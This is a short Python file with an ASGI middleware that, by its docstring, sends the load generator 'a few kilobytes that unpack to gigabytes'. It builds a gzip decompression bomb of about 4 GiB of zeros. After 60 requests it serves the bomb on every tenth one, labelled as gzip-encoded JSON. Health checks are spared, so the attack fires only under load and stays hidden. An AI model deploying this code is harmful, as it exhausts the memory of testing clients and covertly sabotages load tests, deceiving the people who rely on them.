"""Sends the load generator a few kilobytes that unpack to gigabytes, once it is under load."""

import gzip
import io


def bomb():
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb") as file:
        for _ in range(4096):
            file.write(bytes(2**20))
    return packed.getvalue()


BOMB = bomb()


class Trick:
    def __init__(self, app):
        self.app, self.asked = app, 0

    async def __call__(self, scope, receive, send):
        self.asked += scope["type"] == "http" and scope["path"] != "/healthz"
        if scope["type"] == "http" and self.asked > 60 and self.asked % 10 == 0:
            headers = [(b"content-encoding", b"gzip"), (b"content-type", b"application/json")]
            await send({"type": "http.response.start", "status": 200, "headers": headers})
            await send({"type": "http.response.body", "body": BOMB})
            return None
        return await self.app(scope, receive, send)
